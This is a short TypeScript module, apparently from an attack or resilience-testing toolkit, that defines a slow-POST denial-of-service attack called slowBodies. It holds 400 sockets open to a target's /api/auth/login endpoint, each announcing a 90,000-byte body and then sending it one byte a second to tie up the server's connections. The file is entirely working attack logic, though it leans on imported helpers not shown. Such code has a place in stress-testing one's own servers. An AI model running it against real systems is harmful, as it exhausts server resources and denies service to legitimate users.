import type { Attack } from '../attack.ts'
import { drip, head, keepSockets } from '../sockets.ts'

const request = head('POST /api/auth/login', { 'Content-Type': 'application/json', 'Content-Length': 90_000 })

/** 400 bodies of one byte a second. */
export const slowBodies: Attack = (target) =>
  keepSockets(target, {
    sockets: 400,
    begin: (socket) => {
      socket.write(request)
      drip(socket)
    },
  })
